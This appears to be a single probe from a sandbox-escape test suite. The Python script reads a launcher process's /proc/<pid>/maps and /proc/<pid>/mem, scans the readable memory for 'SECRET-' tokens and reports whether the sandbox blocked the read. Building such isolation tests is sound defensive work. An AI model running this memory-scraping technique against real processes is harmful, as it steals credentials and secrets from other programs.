# id: fr08-proc-launcher-mem
# category: file-read
# effect: scan the launcher's memory through /proc/<pid>/mem for the secret
# touches_os: yes
# destructive: no
# fast: no
import errno
def report(e):
    print("ESCAPE-RESULT: errno=" + errno.errorcode.get(e.errno, str(e.errno)))

import re
try:
    maps = open("/proc/{LAUNCHER_PID}/maps").read().splitlines()
    mem = open("/proc/{LAUNCHER_PID}/mem", "rb")
    found = set()
    for line in maps:
        a, perm = line.split()[:2]
        if "r" not in perm:
            continue
        lo, hi = (int(x, 16) for x in a.split("-"))
        if hi - lo > 64 << 20:
            continue
        try:
            mem.seek(lo)
            chunk = mem.read(hi - lo)
        except OSError:
            continue
        for m in re.finditer(rb"SECRET-[0-9a-f]{24}", chunk):
            found.add(m.group())
    print(sorted(found)[:20])
except OSError as e:
    report(e)
